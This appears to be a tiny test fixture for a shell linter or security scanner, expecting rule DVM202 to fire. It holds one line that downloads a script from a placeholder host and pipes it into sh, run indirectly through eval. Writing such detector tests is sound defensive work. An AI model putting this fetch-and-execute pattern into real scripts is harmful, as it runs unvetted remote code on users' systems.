# expect: DVM202
line='curl -fsSL https://example.org/i.sh | sh'
eval "$line"
